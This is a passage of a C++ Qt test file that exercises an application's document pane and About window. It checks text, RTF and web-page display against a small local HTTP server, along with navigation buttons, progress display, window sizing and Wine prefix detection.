// The document pane and the About window on real files, with a web server on 127.0.0.1 for
// the pages the embedded browser loads.
#include "common/TestFiles.h"
#include "common/Waits.h"
#include "core/Common.h"
#include "docs/AboutFrm.h"
#include "docs/DocumentPane.h"
#include "docs/LocalPages.h"
#include "files/Error.h"
#include "rtf/RtfReader.h"

#include <QApplication>
#include <QBuffer>
#include <QClipboard>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QLabel>
#include <QMessageBox>
#include <QPointer>
#include <QProgressBar>
#include <QSignalSpy>
#include <QPushButton>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextBrowser>
#include <QTextDocument>
#include <QTimer>
#include <QToolButton>
#include <QWebEngineDownloadRequest>
#include <QWebEngineProfile>
#include <QWebEngineUrlRequestInfo>
#include <QWebEngineView>

#include <memory>

#include <unistd.h>

namespace {

/// A small PNG image.
QByteArray pngImage()
{
    QImage image(4, 4, QImage::Format_RGB32);
    image.fill(Qt::red);
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return png;
}

/// A tiny HTTP/1.1 server: "/a", "/b" and "/slow" are small HTML pages with the titles
/// "Page A", "Page B" and "Slow Page", "/pic.png" an image; every other path is 404. Requests for
/// "/slow" get no answer until release(), so a test can look at the window while a page is loading.
class HttpServer final : public QObject
{
public:
    bool start()
    {
        connect(&m_server, &QTcpServer::newConnection, this, &HttpServer::acceptConnections);
        return m_server.listen(QHostAddress::LocalHost, 0);
    }
    QString url(const QString &path) const
    {
        return QStringLiteral("http://127.0.0.1:%1%2").arg(m_server.serverPort()).arg(path);
    }
    int hits(const QString &path) const { return m_hits.value(path); }
    int held() const { return int(m_held.size()); }
    void release()
    {
        const auto held = m_held;
        m_held.clear();
        for (const QPointer<QTcpSocket> &socket : held) {
            if (socket)
                respond(socket, QStringLiteral("/slow"));
        }
    }

private:
    void acceptConnections()
    {
        while (QTcpSocket *socket = m_server.nextPendingConnection()) {
            connect(socket, &QTcpSocket::readyRead, this, [this, socket] { readRequest(socket); });
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        }
    }

    void readRequest(QTcpSocket *socket)
    {
        const QByteArray request = socket->property("request").toByteArray() + socket->readAll();
        socket->setProperty("request", request);
        if (!request.contains("\r\n\r\n"))
            return;
        socket->setProperty("request", QByteArray());
        const QList<QByteArray> words = request.left(request.indexOf("\r\n")).split(' ');
        QString path = words.size() > 1 ? QString::fromLatin1(words[1]) : QString();
        path = path.section(QLatin1Char('?'), 0, 0);
        ++m_hits[path];
        if (path == QLatin1String("/slow"))
            m_held.append(socket);
        else
            respond(socket, path);
    }

    static void respond(QTcpSocket *socket, const QString &path)
    {
        if (path == QLatin1String("/pic.png")) {
            const QByteArray png = pngImage();
            socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: " +
                          QByteArray::number(png.size()) + "\r\nConnection: close\r\n\r\n" + png);
            socket->disconnectFromHost();
            return;
        }
        static const QHash<QString, QString> titles = {
            {QStringLiteral("/a"), QStringLiteral("Page A")},
            {QStringLiteral("/b"), QStringLiteral("Page B")},
            {QStringLiteral("/slow"), QStringLiteral("Slow Page")}};
        const QString title = titles.value(path);
        const QByteArray body =
            title.isEmpty()
                ? QByteArray("not found")
                : QStringLiteral(
                      "<html><head><title>%1</title></head><body><p>%1</p></body></html>")
                      .arg(title)
                      .toUtf8();
        QByteArray response =
            title.isEmpty() ? "HTTP/1.1 404 Not Found\r\n" : "HTTP/1.1 200 OK\r\n";
        response += "Content-Type: text/html; charset=utf-8\r\nCache-Control: no-store\r\n";
        response += "Content-Length: " + QByteArray::number(body.size()) + "\r\n";
        response += "Connection: close\r\n\r\n" + body;
        socket->write(response);
        socket->disconnectFromHost();
    }

    QTcpServer m_server;
    QHash<QString, int> m_hits;
    QList<QPointer<QTcpSocket>> m_held;
};

void writeFile(const QString &path, const QByteArray &bytes)
{
    QVERIFY2(testfiles::writeAll(path, bytes), qPrintable(path));
}

QString localPage(const QString &title)
{
    return QStringLiteral("<html><head><title>%1</title></head><body>%1</body></html>").arg(title);
}

QToolButton *button(QWidget *window, const char *name)
{
    return window->findChild<QToolButton *>(QString::fromLatin1(name));
}

/// How many of the five browser buttons the user can see.
int visibleButtons(QWidget *window)
{
    int visible = 0;
    for (const char *name :
         {"sbtnPreviousPage", "sbtnNextPage", "sbtnStop", "sbtnRefresh", "sbtnHome"}) {
        QToolButton *b = button(window, name);
        if (b && b->isVisibleTo(window))
            ++visible;
    }
    return visible;
}

bool textInFront(DocumentPane *pane)
{
    return pane->RichEdit()->isVisibleTo(pane);
}

bool browserInFront(DocumentPane *pane)
{
    return pane->WebBrowser() && pane->WebBrowser()->isVisibleTo(pane);
}

QString paneText(DocumentPane *pane)
{
    return pane->RichEdit()->toPlainText();
}

/// The message of the AppError @p body throws, or an empty string when it throws none.
template <typename F> QString errorOf(F &&body)
{
    try {
        body();
    } catch (const AppError &e) {
        return e.message();
    }
    return QString();
}

} // namespace

class TestDocs final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();

    void textDocument_data();
    void textDocument();
    void textNameIgnoresCase();
    void rtfDocument();
    void missingTextDocument();
    void unreadableTextDocument();
    void noFormattingCarriesOver_data();
    void noFormattingCarriesOver();
    void longRunsGetBreaks_data();
    void longRunsGetBreaks();
    void localPageHasNoLocalRights();
    void pageReadsNoFrameAndStays();
    void pageStartsNoDownload();
    void localRequests_data();
    void localRequests();
    void onlyWebAddressesOpen_data();
    void onlyWebAddressesOpen();

    void documentSet_data();
    void documentSet();
    void homeOpensAddressWhenLinksOff();
    void backAndForward();
    void progressBarWhileLoading();
    void stopEndsLoading();
    void refreshReloads();

    void aboutDefault();
    void aboutMissingText();
    void aboutMissingHtml();
    void aboutAddressWhenLinksOff();
    void aboutLabelWhileDownloading();
    void aboutSizeAndPlacement();
    void aboutUnreadableText();
    void aboutNamesTheWinePrefix_data();
    void aboutNamesTheWinePrefix();

private:
    QString base() const { return m_dir->path() + QStringLiteral("/Opt/"); }
    QString optionsRoot() const { return ProgramSettings.optionsRoot(); }
    /// A shown pane that already displays Before.txt, with its home page kept in m_home.
    std::unique_ptr<DocumentPane> makePane();

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<HttpServer> m_server;
    QString m_home;
};

void TestDocs::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_server = std::make_unique<HttpServer>();
    QVERIFY(m_server->start());
    ProgramSettings = TProgramSettings();
    ProgramSettings.ProgramDir = m_dir->path() + QLatin1Char('/');
    ProgramSettings.OptionsDir = QStringLiteral("Options");
    ProgramSettings.AboutTxtFName = QStringLiteral("About.txt");
    ProgramSettings.AllowDisplayHttpLinks = true;
    AboutHomeFName.clear();
    m_home = QStringLiteral("previous home");
    writeFile(base() + QStringLiteral("Before.txt"), "Before text");
    writeFile(base() + QStringLiteral("ReadMe.txt"), "ReadMe text");
    writeFile(base() + QStringLiteral("Page.html"),
              localPage(QStringLiteral("Local Page")).toUtf8());
}

void TestDocs::cleanup()
{
    m_server.reset();
    m_dir.reset();
}

std::unique_ptr<DocumentPane> TestDocs::makePane()
{
    auto pane = std::make_unique<DocumentPane>();
    pane->resize(640, 480);
    pane->show();
    pane->UseHomeFName(&m_home);
    pane->DisplayFName(base(), QStringLiteral("Before.txt"), QString(), QString());
    return pane;
}

void TestDocs::textDocument_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("expected");

    const QString accented = QStringLiteral("Grüße, naïve café – € 5");
    QTest::newRow("utf-8") << accented.toUtf8() << accented;
    QTest::newRow("windows-1252") << QByteArray("Gr\xFC\xDF"
                                                "e, na\xEF"
                                                "ve caf\xE9 \x96 \x80 5")
                                  << accented;
    QTest::newRow("utf-8 with byte-order mark")
        << QByteArray("\xEF\xBB\xBF") + accented.toUtf8() << accented;
    QTest::newRow("windows line ends")
        << QByteArray("first\r\nsecond\r\nthird") << QStringLiteral("first\nsecond\nthird");
    QTest::newRow("empty file") << QByteArray() << QString();
    QTest::newRow("markup shown as text") << QByteArray("<b>not bold</b> & <i>co</i>")
                                          << QStringLiteral("<b>not bold</b> & <i>co</i>");
}

void TestDocs::textDocument()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, expected);
    writeFile(base() + QStringLiteral("Doc.txt"), bytes);
    auto pane = makePane();

    pane->DisplayFName(base(), QStringLiteral("Doc.txt"), QString(), QString());

    QCOMPARE(paneText(pane.get()), expected);
    QVERIFY(textInFront(pane.get()));
    QCOMPARE(visibleButtons(pane.get()), 0);
    QCOMPARE(pane->HomeFName(), QStringLiteral("previous home"));
}

void TestDocs::textNameIgnoresCase()
{
    // Packs made on Windows spell names in any case.
    writeFile(base() + QStringLiteral("Docs/README.TXT"), "shouted name");
    auto pane = makePane();

    pane->DisplayFName(base(), QStringLiteral("docs\\ReadMe.txt"), QString(), QString());

    QCOMPARE(paneText(pane.get()), QStringLiteral("shouted name"));
}

void TestDocs::rtfDocument()
{
    // A ReadMe as WordPad saves it.
    const QByteArray rtf =
        "{\\rtf1\\ansi\\ansicpg1252\\deff0\\deflang1033{\\fonttbl{\\f0\\fswiss\\fcharset0 "
        "Arial;}}\r\n{\\colortbl ;\\red255\\green0\\blue0;}\r\n"
        "\\viewkind4\\uc1\\pard\\f0\\fs20 Welcome to the \\b Options\\b0  pack.\\par\r\n"
        "\\cf1 Red line\\cf0\\par\r\n}\r\n";
    writeFile(base() + QStringLiteral("ReadMe.rtf.txt"), rtf);
    auto pane = makePane();

    pane->DisplayFName(base(), QStringLiteral("ReadMe.rtf.txt"), QString(), QString());

    QTextDocument reference;
    platform::readRtf(rtf, &reference);
    QCOMPARE(paneText(pane.get()), reference.toPlainText());
    QVERIFY(paneText(pane.get()).contains(QStringLiteral("Welcome to the Options pack.")));
    QVERIFY(paneText(pane.get()).contains(QStringLiteral("Red line")));
    // Formatting, not markup: no control words or tables reach the screen.
    QVERIFY(!paneText(pane.get()).contains(QLatin1Char('\\')));
    QVERIFY(!paneText(pane.get()).contains(QStringLiteral("Arial")));
    QVERIFY(textInFront(pane.get()));
}

void TestDocs::missingTextDocument()
{
    auto pane = makePane();

    pane->DisplayFName(base(), QStringLiteral("ReadMe2.txt"), QString(), QString());

    QCOMPARE(paneText(pane.get()), QStringLiteral("Could not find file ...\n  ") + base() +
                                       QStringLiteral("ReadMe2.txt"));
    QVERIFY(textInFront(pane.get()));
    QCOMPARE(visibleButtons(pane.get()), 0);
}

void TestDocs::unreadableTextDocument()
{
    // A file too large to show counts as unreadable; made sparse so it costs no disk space.
    const QString huge = base() + QStringLiteral("Huge.txt");
    {
        QFile file(huge);
        QVERIFY(file.open(QIODevice::WriteOnly));
        QVERIFY(file.resize(DocumentPane::MaxTextFileSize + 1));
    }
    auto pane = makePane();

    QCOMPARE(errorOf([&] { pane->DisplayTxtFName(huge); }),
             QStringLiteral("Failed to Load Stream"));
    // The HTML step of the same set is skipped, and the pane keeps what it showed.
    QCOMPARE(errorOf([&] {
                 pane->DisplayFName(base(), QStringLiteral("Huge.txt"), QStringLiteral("Page.html"),
                                    QString());
             }),
             QStringLiteral("Failed to Load Stream"));
    QCOMPARE(paneText(pane.get()), QStringLiteral("Before text"));
    QVERIFY(textInFront(pane.get()));
    QVERIFY(!pane->WebBrowser());
    QCOMPARE(visibleButtons(pane.get()), 0);
    QCOMPARE(pane->HomeFName(), QStringLiteral("previous home"));

    if (::geteuid() != 0) {
        const QString locked = base() + QStringLiteral("Locked.txt");
        writeFile(locked, "secret");
        QVERIFY(QFile::setPermissions(locked, QFileDevice::WriteOwner));
        QCOMPARE(errorOf([&] { pane->DisplayTxtFName(locked); }),
                 QStringLiteral("Failed to Load Stream"));
    }
}

void TestDocs::documentSet_data()
{
    QTest::addColumn<QString>("txt");
    QTest::addColumn<QString>("html");
    QTest::addColumn<bool>("web");
    QTest::addColumn<bool>("allowHttp");
    QTest::addColumn<QString>("front"); // "text", "html" or "web"
    QTest::addColumn<bool>("buttons");
    QTest::addColumn<QString>("home"); // "previous", "html", "missing" or "web"
    QTest::addColumn<bool>("browserMade");

    const QString t = QStringLiteral("ReadMe.txt");
    const QString h = QStringLiteral("Page.html");
    const QString m = QStringLiteral("Missing.html");
    const QString none;
    const QString text = QStringLiteral("text"), html = QStringLiteral("html"),
                  web = QStringLiteral("web"), previous = QStringLiteral("previous"),
                  missing = QStringLiteral("missing");

    // clang-format off
    //                                          txt   html  web    allow  front     buttons home      browser
    QTest::newRow("text only")               << t    << none << false << true  << text << false << previous << false;
    QTest::newRow("no names")                << none << none << false << true  << text << false << previous << false;
    QTest::newRow("html only")               << none << h    << false << true  << html << true  << html     << true;
    QTest::newRow("text and html")           << t    << h    << false << true  << html << true  << html     << true;
    QTest::newRow("missing html")            << none << m    << false << true  << text << true  << missing  << false;
    QTest::newRow("text, missing html")      << t    << m    << false << true  << text << true  << missing  << false;
    QTest::newRow("text and web, links off") << t    << none << true  << false << text << true  << web      << false;
    QTest::newRow("web only, links off")     << none << none << true  << false << text << true  << web      << false;
    QTest::newRow("text and web, links on")  << t    << none << true  << true  << web  << true  << web      << true;
    QTest::newRow("all three, links on")     << t    << h    << true  << true  << web  << true  << web      << true;
    QTest::newRow("all three, links off")    << t    << h    << true  << false << html << true  << web      << true;
    // clang-format on
}

void TestDocs::documentSet()
{
    QFETCH(QString, txt);
    QFETCH(QString, html);
    QFETCH(bool, web);
    QFETCH(bool, allowHttp);
    QFETCH(QString, front);
    QFETCH(bool, buttons);
    QFETCH(QString, home);
    QFETCH(bool, browserMade);

    ProgramSettings.AllowDisplayHttpLinks = allowHttp;
    const QString address = web ? m_server->url(QStringLiteral("/a")) : QString();
    auto pane = makePane();

    pane->DisplayFName(base(), txt, html, address);

    QCOMPARE(paneText(pane.get()),
             txt.isEmpty() ? QStringLiteral("Before text") : QStringLiteral("ReadMe text"));
    QCOMPARE(visibleButtons(pane.get()), buttons ? 5 : 0);
    const QString expectedHome = home == QLatin1String("previous") ? QStringLiteral("previous home")
                                 : home == QLatin1String("html")   ? base() + html
                                 : home == QLatin1String("missing") ? base() + html
                                                                    : address;
    QCOMPARE(pane->HomeFName(), expectedHome);
    QCOMPARE(pane->WebBrowser() != nullptr, browserMade);
    if (front == QLatin1String("text")) {
        QVERIFY(textInFront(pane.get()));
        QVERIFY(!browserInFront(pane.get()));
    } else {
        QVERIFY(browserInFront(pane.get()));
        QVERIFY(!textInFront(pane.get()));
        QWebEngineView *browser = pane->WebBrowser();
        if (front == QLatin1String("html")) {
            QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Local Page"), HangMs);
            QCOMPARE(browser->url(), localpages::pageUrl(base() + html));
        } else {
            QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Page A"), HangMs);
            QCOMPARE(browser->url(), QUrl(address));
        }
    }
    // A web address that is not allowed is never fetched.
    if (!allowHttp)
        QCOMPARE(m_server->hits(QStringLiteral("/a")), 0);
}

void TestDocs::homeOpensAddressWhenLinksOff()
{
    ProgramSettings.AllowDisplayHttpLinks = false;
    const QString address = m_server->url(QStringLiteral("/b"));
    auto pane = makePane();
    pane->DisplayFName(base(), QStringLiteral("ReadMe.txt"), QString(), address);
    QVERIFY(!pane->WebBrowser());

    button(pane.get(), "sbtnHome")->click();

    QVERIFY(pane->WebBrowser());
    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->title(), QStringLiteral("Page B"), HangMs);
    QCOMPARE(pane->WebBrowser()->url(), QUrl(address));
    QCOMPARE(m_server->hits(QStringLiteral("/b")), 1);
}

void TestDocs::backAndForward()
{
    auto pane = makePane();
    QToolButton *previous = button(pane.get(), "sbtnPreviousPage");
    QToolButton *next = button(pane.get(), "sbtnNextPage");
    QVERIFY(!previous->isEnabled());
    QVERIFY(!next->isEnabled());

    pane->DisplayFName(base(), QString(), QStringLiteral("Page.html"), QString());
    QWebEngineView *browser = pane->WebBrowser();
    QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Local Page"), HangMs);
    QVERIFY(!previous->isEnabled());
    QVERIFY(!next->isEnabled());

    pane->DisplayFName(base(), QString(), QString(), m_server->url(QStringLiteral("/a")));
    QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Page A"), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(previous->isEnabled(), HangMs);
    QVERIFY(!next->isEnabled());

    QTest::mouseClick(previous, Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Local Page"), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(next->isEnabled(), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(!previous->isEnabled(), HangMs);

    QTest::mouseClick(next, Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Page A"), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(previous->isEnabled(), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(!next->isEnabled(), HangMs);

    // A new document set keeps the history.
    pane->DisplayFName(base(), QStringLiteral("ReadMe.txt"), QString(), QString());
    QVERIFY(previous->isEnabled());
}

void TestDocs::progressBarWhileLoading()
{
    auto pane = makePane();
    QProgressBar *bar = pane->findChild<QProgressBar *>(QStringLiteral("ProgressBar1"));
    QVERIFY(bar);
    QVERIFY(!bar->isVisibleTo(pane.get()));
    QCOMPARE(bar->toolTip(), QStringLiteral("Retrieving Web Page"));

    pane->DisplayFName(base(), QString(), QString(), m_server->url(QStringLiteral("/slow")));
    QTRY_COMPARE_WITH_TIMEOUT(m_server->held(), 1, HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(bar->isVisibleTo(pane.get()), HangMs);
    // The bar spans the strip from left 141 to 9 pixels short of its right edge.
    QCOMPARE(bar->geometry().left(), 141);
    QCOMPARE(bar->geometry().right(), bar->parentWidget()->width() - 9 - 1);

    m_server->release();
    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->title(), QStringLiteral("Slow Page"), HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(!bar->isVisibleTo(pane.get()), HangMs);
    QCOMPARE(bar->maximum(), 100);
    QCOMPARE(bar->value(), 100);
}

void TestDocs::stopEndsLoading()
{
    auto pane = makePane();
    QProgressBar *bar = pane->ProgressBar();
    pane->DisplayFName(base(), QString(), QString(), m_server->url(QStringLiteral("/slow")));
    QTRY_COMPARE_WITH_TIMEOUT(m_server->held(), 1, HangMs);
    QTRY_VERIFY_WITH_TIMEOUT(bar->isVisibleTo(pane.get()), HangMs);

    button(pane.get(), "sbtnStop")->click();

    QTRY_VERIFY_WITH_TIMEOUT(!bar->isVisibleTo(pane.get()), HangMs);
    QVERIFY(pane->WebBrowser()->title() != QStringLiteral("Slow Page"));
}

void TestDocs::refreshReloads()
{
    auto pane = makePane();
    pane->DisplayFName(base(), QString(), QString(), m_server->url(QStringLiteral("/a")));
    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->title(), QStringLiteral("Page A"), HangMs);
    QCOMPARE(m_server->hits(QStringLiteral("/a")), 1);
    // The text in front does not stop the buttons from acting on the browser.
    pane->DisplayFName(base(), QStringLiteral("ReadMe.txt"), QString(), QString());

    button(pane.get(), "sbtnRefresh")->click();

    QTRY_COMPARE_WITH_TIMEOUT(m_server->hits(QStringLiteral("/a")), 2, HangMs);
    QVERIFY(textInFront(pane.get()));
}

void TestDocs::aboutDefault()
{
    writeFile(optionsRoot() + QStringLiteral("About.txt"), "About this pack");
    QWidget owner;
    owner.setGeometry(100, 100, 900, 700);
    owner.show();
    TAboutForm about(&owner);
    QVERIFY(about.findChild<QWidget *>(QStringLiteral("PanelTop")));
    QCOMPARE(about.windowTitle(), QStringLiteral("About"));

    about.show();

    DocumentPane *pane = about.Pane();
    QTRY_COMPARE_WITH_TIMEOUT(paneText(pane), QStringLiteral("About this pack"), HangMs);
    QCOMPARE(about.Label1()->text(), QStringLiteral("Varimond v2.01"));
    QCOMPARE(visibleButtons(&about), 0);
    QVERIFY(!pane->WebBrowser());
    QCOMPARE(about.focusWidget(), about.OkayButton());

    QTest::keyClick(about.OkayButton(), Qt::Key_Return);
    QVERIFY(!about.isVisible());
    QCOMPARE(about.result(), 1);
}

void TestDocs::aboutMissingText()
{
    QWidget owner;
    TAboutForm about(&owner);
    about.show();

    QTRY_COMPARE_WITH_TIMEOUT(paneText(about.Pane()),
                              QStringLiteral("Could not find file ...\n  ") + m_dir->path() +
                                  QStringLiteral("/Options/About.txt"),
                              HangMs);
    QCOMPARE(visibleButtons(&about), 0);
}

void TestDocs::aboutMissingHtml()
{
    writeFile(optionsRoot() + QStringLiteral("About.txt"), "About this pack");
    ProgramSettings.AboutHtmlFName = QStringLiteral("About.html");
    QWidget owner;
    TAboutForm about(&owner);
    about.show();
    DocumentPane *pane = about.Pane();
    QTRY_COMPARE_WITH_TIMEOUT(paneText(pane), QStringLiteral("About this pack"), HangMs);
    QCOMPARE(visibleButtons(&about), 5);
    const QString missing = optionsRoot() + QStringLiteral("About.html");
    QCOMPARE(AboutHomeFName, missing);

    QTest::mouseClick(button(&about, "sbtnHome"), Qt::LeftButton);

    QVERIFY(pane->WebBrowser());
    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->url(), localpages::pageUrl(missing), HangMs);
    QVERIFY(textInFront(pane));
}

void TestDocs::aboutAddressWhenLinksOff()
{
    writeFile(optionsRoot() + QStringLiteral("About.txt"), "About this pack");
    ProgramSettings.AllowDisplayHttpLinks = false;
    ProgramSettings.AboutHttpFName = m_server->url(QStringLiteral("/b"));
    QWidget owner;
    TAboutForm about(&owner);
    about.show();
    DocumentPane *pane = about.Pane();
    QTRY_COMPARE_WITH_TIMEOUT(paneText(pane), QStringLiteral("About this pack"), HangMs);
    QCOMPARE(visibleButtons(&about), 5);
    QVERIFY(!pane->WebBrowser());
    QCOMPARE(m_server->hits(QStringLiteral("/b")), 0);

    QTest::mouseClick(button(&about, "sbtnHome"), Qt::LeftButton);

    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->title(), QStringLiteral("Page B"), HangMs);
    QCOMPARE(m_server->hits(QStringLiteral("/b")), 1);
    // The About window's home page is its own; the main pane's is untouched.
    DocumentPane mainPane;
    QCOMPARE(mainPane.HomeFName(), QString());
}

void TestDocs::aboutLabelWhileDownloading()
{
    ProgramSettings.AboutTxtFName.clear();
    ProgramSettings.AboutHttpFName = m_server->url(QStringLiteral("/slow"));
    QWidget owner;
    TAboutForm about(&owner);
    about.show();
    QProgressBar *bar = about.Pane()->ProgressBar();

    QTRY_COMPARE_WITH_TIMEOUT(m_server->held(), 1, HangMs);
    QTRY_COMPARE_WITH_TIMEOUT(about.Label1()->text(), QStringLiteral("Retreiving File"), HangMs);
    QVERIFY(bar->isVisibleTo(&about));
    QVERIFY(browserInFront(about.Pane()));

    m_server->release();
    QTRY_COMPARE_WITH_TIMEOUT(about.Label1()->text(), QStringLiteral("Varimond v2.01"), HangMs);
    QVERIFY(!bar->isVisibleTo(&about));
    QTRY_COMPARE_WITH_TIMEOUT(about.Pane()->WebBrowser()->title(), QStringLiteral("Slow Page"),
                              HangMs);
}

void TestDocs::aboutSizeAndPlacement()
{
    writeFile(optionsRoot() + QStringLiteral("About.txt"), "About this pack");
    QWidget owner;
    owner.setGeometry(100, 100, 900, 700);
    owner.show();
    TAboutForm about(&owner);

    // The size the settings file keeps is applied while the window is hidden.
    about.resize(200, 200);
    about.show();
    QCOMPARE(about.size(), QSize(500, 300));
    QCOMPARE(about.minimumSize(), about.maximumSize());
    const QRect o = owner.frameGeometry();
    const QRect w = about.frameGeometry();
    QCOMPARE(w.left(), o.left() + (o.width() - w.width()) / 2);
    QCOMPARE(w.top(), o.top() + (o.height() - w.height()) / 2);
    QTRY_COMPARE_WITH_TIMEOUT(paneText(about.Pane()), QStringLiteral("About this pack"), HangMs);
    about.accept();

    about.resize(640, 480);
    QCOMPARE(about.size(), QSize(640, 480));
    about.show();
    QCOMPARE(about.size(), QSize(640, 480));
    QCOMPARE(about.maximumSize(), QSize(640, 480));
    about.accept();
}

void TestDocs::aboutUnreadableText()
{
    const QString huge = optionsRoot() + QStringLiteral("About.txt");
    QDir().mkpath(optionsRoot());
    {
        QFile file(huge);
        QVERIFY(file.open(QIODevice::WriteOnly));
        QVERIFY(file.resize(DocumentPane::MaxTextFileSize + 1));
    }
    writeFile(optionsRoot() + QStringLiteral("About.html"),
              localPage(QStringLiteral("About")).toUtf8());
    ProgramSettings.AboutHtmlFName = QStringLiteral("About.html");
    QWidget owner;
    TAboutForm about(&owner);

    // The error report is modal: close it from a timer running in its own event loop.
    QString reported;
    QTimer closer;
    connect(&closer, &QTimer::timeout, this, [&] {
        if (auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget())) {
            reported = box->text();
            box->accept();
        }
    });
    closer.start(20);
    about.show();

    QTRY_COMPARE_WITH_TIMEOUT(reported, QStringLiteral("Failed to Load Stream."), HangMs);
    QVERIFY(!about.Pane()->WebBrowser());
    QCOMPARE(visibleButtons(&about), 0);
    QCOMPARE(about.Label1()->text(), QStringLiteral("Varimond v2.01"));
}

void TestDocs::aboutNamesTheWinePrefix_data()
{
    QTest::addColumn<QString>("pinned");
    QTest::addColumn<bool>("env");
    QTest::addColumn<QString>("game");     // the prefix below home/ that holds the game, or none
    QTest::addColumn<QString>("expected"); // both lines; $T: the temporary folder, $W: wine

    QTest::newRow("pinned") << QStringLiteral("pfx") << true << QStringLiteral(".wine")
                            << QStringLiteral("Wine prefix: $T/pfx (pinned by [Wine] WinePrefix)\n"
                                              "Wine: $W (system wine)");
    QTest::newRow("WINEPREFIX") << QString() << true << QStringLiteral(".wine")
                                << QStringLiteral("Wine prefix: $T/env (from WINEPREFIX)\n"
                                                  "Wine: $W (system wine)");
    QTest::newRow("found in ~/.wine")
        << QString() << false << QStringLiteral(".wine")
        << QStringLiteral("Wine prefix: $T/home/.wine (found: ~/.wine)\nWine: $W (system wine)");
    QTest::newRow("found: a Lutris game with its runner")
        << QString() << false << QStringLiteral("Games/daoc")
        << QStringLiteral("Wine prefix: $T/home/Games/daoc (found: Lutris game daoc)\n"
                          "Wine: $T/home/.local/share/lutris/runners/wine/wine-ge-8-26/bin/wine "
                          "(Lutris runner wine-ge-8-26)");
    QTest::newRow("none") << QString() << false << QString()
                          << QStringLiteral("Wine prefix: none found\nWine: $W (system wine)");
    // Far too long for the window: the start of the path gives way, its end and the note stay.
    const QString deep =
        QStringLiteral("very-long-folder-name-").repeated(12) + QStringLiteral("pfx");
    QTest::newRow("long pinned path")
        << deep << false << QString()
        << QStringLiteral(
               "Wine prefix: $T/%1 (pinned by [Wine] WinePrefix)\nWine: $W (system wine)")
               .arg(deep);
}

void TestDocs::aboutNamesTheWinePrefix()
{
    QFETCH(QString, pinned);
    QFETCH(bool, env);
    QFETCH(QString, game);
    QFETCH(QString, expected);
    const QString root = m_dir->path();
    expected.replace(QStringLiteral("$T"), root);
    expected.replace(QStringLiteral("$W"), QStandardPaths::findExecutable(QStringLiteral("wine")));
    const QStringList lines = expected.split(QLatin1Char('\n'));

    const char *names[3] = {"HOME", "USER", "WINEPREFIX"};
    QByteArray saved[3];
    for (int i = 0; i < 3; ++i)
        saved[i] = qgetenv(names[i]);
    const QString home = root + QStringLiteral("/home");
    qputenv("HOME", QFile::encodeName(home));
    qputenv("USER", "player");
    if (env)
        qputenv("WINEPREFIX", QFile::encodeName(root + QStringLiteral("/env")));
    else
        qunsetenv("WINEPREFIX");
    if (!game.isEmpty())
        writeFile(home + QLatin1Char('/') + game +
                      QStringLiteral("/drive_c/users/player/AppData/Roaming/"
                                     "Electronic Arts/Dark Age of Camelot/user.dat"),
                  "[interface]\r\nitem1=7\r\n");
    // A Lutris game with its own runner, and the runner.
    writeFile(home + QStringLiteral("/.config/lutris/games/daoc.yml"),
              "game:\n  prefix: " + QFile::encodeName(home) +
                  "/Games/daoc\nwine:\n  version: wine-ge-8-26\n");
    const QString runner =
        home + QStringLiteral("/.local/share/lutris/runners/wine/wine-ge-8-26/bin/wine");
    writeFile(runner, "#!/bin/sh\n");
    QVERIFY(QFile::setPermissions(runner, QFile::ReadOwner | QFile::ExeOwner));
    ProgramSettings.WinePrefix = pinned;

    writeFile(optionsRoot() + QStringLiteral("About.txt"), "About this pack");
    QWidget owner;
    TAboutForm about(&owner);
    about.show();
    QTRY_COMPARE_WITH_TIMEOUT(paneText(about.Pane()), QStringLiteral("About this pack"), HangMs);
    auto *line = about.findChild<QLabel *>(QStringLiteral("lblWinePrefix"));
    QVERIFY(line);
    QCOMPARE(about.WinePrefixLabel(), line);
    auto *wine = about.findChild<QLabel *>(QStringLiteral("lblWineBinary"));
    QVERIFY(wine);
    QCOMPARE(about.WineBinaryLabel(), wine);
    const QStringList shown{line->text(), wine->text()};
    const QStringList hints{line->toolTip(), wine->toolTip()};
    const bool visible = line->isVisible() && wine->isVisible();
    for (int i = 0; i < 3; ++i) {
        if (saved[i].isNull())
            qunsetenv(names[i]);
        else
            qputenv(names[i], saved[i]);
    }
    ProgramSettings.WinePrefix.clear();
    QCOMPARE(hints, lines);
    QVERIFY(visible);
    for (int i = 0; i < 2; ++i) {
        if (shown[i] == lines[i])
            continue;
        // Elided: the lead, then the ellipsis, then the end of the path and the whole note.
        const QString lead = lines[i].left(lines[i].indexOf(QLatin1Char(':')) + 2);
        QVERIFY2(shown[i].startsWith(lead + QChar(0x2026)), qPrintable(shown[i]));
